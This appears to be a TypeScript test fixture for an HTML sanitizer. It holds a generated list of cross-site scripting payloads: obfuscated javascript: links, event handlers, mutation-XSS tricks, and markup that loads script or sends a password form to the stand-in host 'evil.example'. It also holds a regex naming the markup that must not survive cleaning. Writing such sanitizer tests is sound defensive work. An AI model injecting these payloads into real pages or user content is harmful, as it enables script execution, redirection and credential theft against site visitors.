const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'OnMouseOver',
]
const handlers = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video',
  'iframe srcdoc=x',
  'math',
  'a href=#',
]
/** Addresses that run or lead away when pressed. */
export const hostileLinks = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  ' javascript:alert(1)',
]
const elements = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=https://evil.example/x.swf>',
  '<form action=https://evil.example><input name=password></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg><script>alert(1)</script></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p style="background:url(https://evil.example)">x</p>',
  '<a href="https://ok.example" target=_top onclick=alert(1)>x</a>',
]
/** Markup that runs a script, loads from elsewhere or changes the page, in the shapes editors' tools let through. */
export const injections = [
  ...handlers.flatMap((element) => events.map((event) => `<${element} ${event}=alert(1)>`)),
  ...hostileLinks.flatMap((link) => [`<a href="${link}">x</a>`, `<img src="${link}">`, `[x](${link})`]),
  ...elements,
]

/** The tags that are left; what is escaped is text. */
export const tagsOf = (html: string) => html.match(/<[^>]*>?/g) ?? []
/** Markup that no tag may hold after cleaning. */
export const forbiddenInTags =
  /<\/?(?:script|style|svg|math|iframe|object|embed|form|input|base|link|meta|template|video|body|textarea|noscript|xmp)|\son\w+\s*=|(?:java|vb)script:|data:|style=|srcdoc|evil\.example/i
